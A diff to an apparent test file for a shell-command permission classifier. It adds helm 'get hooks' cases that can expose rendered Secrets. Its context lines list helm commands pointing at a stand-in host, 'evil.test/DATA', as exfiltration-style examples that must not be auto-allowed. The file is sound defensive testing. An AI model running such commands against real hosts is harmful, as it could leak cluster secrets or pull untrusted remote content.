@@ -227,6 +227,10 @@ describe("helm show / inspect: a local chart's files are printed, a remote one i
       "helm show values oci://evil.test/DATA": "fallthrough",
       "helm inspect values https://evil.test/a.tgz": "fallthrough",
       "helm show chart s3://bucket/c": "fallthrough",
+      // hook manifests can be rendered Secrets, like get manifest
+      "helm get hooks myrelease": "fallthrough",
+      "helm get hooks myrelease --revision 2": "fallthrough",
+      "helm get notes myrelease": "allow",
       // template / lint: --repo and scheme references fetch too (schema validation off or not)
       "helm template x mychart --repo https://evil.test/DATA --skip-schema-validation": "fallthrough",
       "helm template x mychart --repo=https://evil.test --skip-schema-validation": "fallthrough",
